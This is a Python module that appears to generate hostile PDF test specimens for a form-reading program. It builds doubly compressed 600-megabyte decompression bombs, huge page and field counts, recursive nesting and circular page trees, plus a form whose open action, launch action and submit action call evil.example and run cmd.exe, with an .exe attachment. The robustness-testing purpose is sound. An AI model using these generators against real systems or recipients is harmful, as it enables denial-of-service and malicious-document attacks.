"""Builds documents that are meant to do harm: to fill memory, to take for ever, to run something.

Each is small as it is mailed. Nothing here is dangerous to open with the readers of this program.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.specimens.xfa import build_dynamic, save
from tests.unit.pdf_forms import FormBuilder
from tests.unit.wrappings import build_portfolio

_MEGABYTE = 1024 * 1024
#: The library would otherwise unfold streams, and pack them its own way.
_AS_IT_IS: dict[str, Any] = {
    "compress_streams": False,
    "stream_decode_level": pikepdf.StreamDecodeLevel.none,
}


def deflate_twice(megabytes: int, filling: bytes = b"\0", *, head: bytes = b"") -> bytes:
    """Return bytes of about a kilobyte that two rounds of inflating turn into so many megabytes."""
    piece = filling * (_MEGABYTE // len(filling))
    # Packed once and repeated: a block that refers to nothing before it may stand anywhere.
    packed = b"\x78\xda" + _pack(head) + _pack(piece) * megabytes + b"\x03\x00"
    check = zlib.adler32(head)
    for _ in range(megabytes):
        check = zlib.adler32(piece, check)
    return zlib.compress(packed + check.to_bytes(4, "big"), 9)


def _pack(data: bytes) -> bytes:
    packer = zlib.compressobj(9, wbits=-15)
    return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)


def _bomb(pdf: pikepdf.Pdf, *, filling: bytes = b"\0", **keys: object) -> pikepdf.Stream:
    stream = pdf.make_stream(deflate_twice(600, filling), **keys)
    stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    return stream


def value_of_600_megabytes() -> bytes:
    """Return a form one of whose answers unfolds to 600 megabytes."""
    form = FormBuilder()
    form.text("purpose", V=_bomb(form.pdf, filling=b"a"))
    return form.save(**_AS_IT_IS)


def page_of_600_megabytes() -> bytes:
    """Return a document without fields whose page's contents unfold to 600 megabytes."""
    form = FormBuilder(known=False)
    form.pdf.pages[0].obj.Contents = _bomb(form.pdf, filling=b"q Q ")
    return form.save(**_AS_IT_IS)


def appearance_of_600_megabytes() -> bytes:
    """Return a form one of whose fields has an appearance of 600 megabytes."""
    form = FormBuilder()
    look = _bomb(
        form.pdf, filling=b"q Q ", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9])
    )
    form.text("purpose", "to know whether he was held", AP=Dictionary(N=look))
    return form.save(**_AS_IT_IS)


def xfa_of_600_megabytes() -> bytes:
    """Return an XFA form whose data unfold to 600 megabytes."""
    pdf = build_dynamic()
    pdf.Root.AcroForm.XFA = Array([String("datasets"), _bomb(pdf, filling=b" ")])
    return save(pdf, **_AS_IT_IS)


def file_of_600_megabytes() -> bytes:
    """Return a PDF that carries a PDF of 600 megabytes."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    file = _bomb(pdf, filling=b"%PDF-1.7", Type=Name.EmbeddedFile)
    holder = Dictionary(Type=Name.Filespec, F=String("form.pdf"), EF=Dictionary(F=file))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), holder])))
    return save(pdf, **_AS_IT_IS)


def objects_of_600_megabytes() -> bytes:
    """Return a PDF whose objects lie in a stream that unfolds to 600 megabytes (7.5.7)."""
    catalog, pages = b"<< /Type /Catalog /Pages 3 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"
    numbers = b"2 0 3 %d " % (len(catalog) + 1)
    packed = deflate_twice(600, b" ", head=numbers + catalog + b" " + pages)
    head = (
        b"%%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 2 /First %d /Length %d "
        b"/Filter [/FlateDecode /FlateDecode] >>\nstream\n" % (len(numbers), len(packed))
    )
    body = head + packed + b"\nendstream\nendobj\n"
    # Object 1 stands at byte 9; objects 2 and 3 lie inside it; object 4 is this table.
    rows = b"".join(
        kind.to_bytes(1, "big") + place.to_bytes(4, "big") + index.to_bytes(1, "big")
        for kind, place, index in ((0, 0, 0), (1, 9, 0), (2, 1, 0), (2, 1, 1), (1, len(body), 0))
    )
    table = b"4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 1] /Root 2 0 R /Length %d >>\nstream\n" % len(
        rows
    )
    start = b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)
    return body + table + rows + start


def ten_thousand_pages() -> bytes:
    """Return a document of ten thousand pages."""
    numbers = range(3, 10_003)
    kids = b" ".join(b"%d 0 R" % n for n in numbers)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 10000 /Kids [" + kids + b"] >>",
        *(page for _ in numbers),
    ]
    data, table = bytearray(b"%PDF-1.4\n"), bytearray(b"0000000000 65535 f \n")
    for number, content in enumerate(objects, 1):
        table += b"%010d 00000 n \n" % len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    size, start = len(objects) + 1, len(data)
    data += b"xref\n0 %d\n" % size + table
    data += b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    return bytes(data)


def picture_of_400_megapixels() -> bytes:
    """Return a page that is one picture of 20,000 by 20,000 pixels, in a few kilobytes."""
    form = FormBuilder(known=False)
    picture = form.pdf.make_stream(
        zlib.compress(bytes(20_000 * 20_000 // 8), 9),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=20_000,
        Height=20_000,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=1,
        Filter=Name.FlateDecode,
    )
    page = form.pdf.pages[0].obj
    page.Resources = Dictionary(XObject=Dictionary(Im=picture))
    page.Contents = form.pdf.make_stream(b"612 0 0 792 0 0 cm /Im Do")
    return form.save()


def page_of_14_400_points_drawn_in_loops() -> bytes:
    """Return a page that draws itself inside itself, thirty-two times at each of many levels."""
    form = FormBuilder(known=False)
    inner = form.pdf.make_stream(b"0 0 1 1 re f", Type=Name.XObject, Subtype=Name.Form)
    inner.BBox = Array([0, 0, 14_400, 14_400])
    for _ in range(12):
        outer = form.pdf.make_stream(b"/X Do " * 32, Type=Name.XObject, Subtype=Name.Form)
        outer.BBox = Array([0, 0, 14_400, 14_400])
        outer.Resources = Dictionary(XObject=Dictionary(X=inner))
        inner = outer
    page = form.pdf.pages[0].obj
    page.MediaBox = Array([0, 0, 14_400, 14_400])
    page.Resources = Dictionary(XObject=Dictionary(X=inner))
    page.Contents = form.pdf.make_stream(b"/X Do")
    return form.save()


def brackets_without_end() -> bytes:
    """Return a PDF one of whose objects is a hundred thousand arrays inside each other."""
    data = FormBuilder().save(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return data.replace(b"(Dana Example)", b"[" * 100_000 + b"]" * 100_000)


def pages_in_a_circle() -> bytes:
    """Return a PDF whose tree of pages leads back to its root."""
    form = FormBuilder()
    form.pdf.Root.Pages.Kids.append(form.pdf.Root.Pages)
    return form.save(object_stream_mode=pikepdf.ObjectStreamMode.disable)


def a_hundred_thousand_fields() -> bytes:
    """Return a form with more fields than any form has."""
    form = FormBuilder()
    field = b"<< /FT /Tx /T (subject_suffix) /V (x) >> "
    data = form.save(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return data.replace(b"/Fields [", b"/Fields [ " + field * 100_000)


def everything_that_runs() -> bytes:
    """Return a form with scripts, a program to start, data to send, and a program inside."""
    form = FormBuilder()
    form.pdf.Root.OpenAction = Dictionary(
        S=Name.JavaScript, JS=String("app.launchURL('http://evil.example')")
    )
    launch = Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 612, 792]), A=launch)
    form.pdf.pages[0].obj.Annots.append(form.pdf.make_indirect(link))
    form.pdf.pages[0].obj.AA = Dictionary(
        O=Dictionary(S=Name.SubmitForm, F=Dictionary(F=String("http://evil.example"), FS=Name.URL))
    )
    form.pdf.attachments["invoice.pdf.exe"] = b"MZ\x90\x00"
    return form.save()


def forms_inside_forms_without_end() -> bytes:
    """Return a PDF that carries a PDF that carries a PDF, twenty times."""
    data = FormBuilder().save()
    for _ in range(20):
        data = build_portfolio({"inner.pdf": data})
    return data


#: Every hostile document, by what it is.
HOSTILE: dict[str, Callable[[], bytes]] = {
    found.__name__: found
    for found in (
        value_of_600_megabytes,
        page_of_600_megabytes,
        appearance_of_600_megabytes,
        xfa_of_600_megabytes,
        file_of_600_megabytes,
        objects_of_600_megabytes,
        ten_thousand_pages,
        picture_of_400_megapixels,
        page_of_14_400_points_drawn_in_loops,
        brackets_without_end,
        pages_in_a_circle,
        a_hundred_thousand_fields,
        everything_that_runs,
        forms_inside_forms_without_end,
    )
}
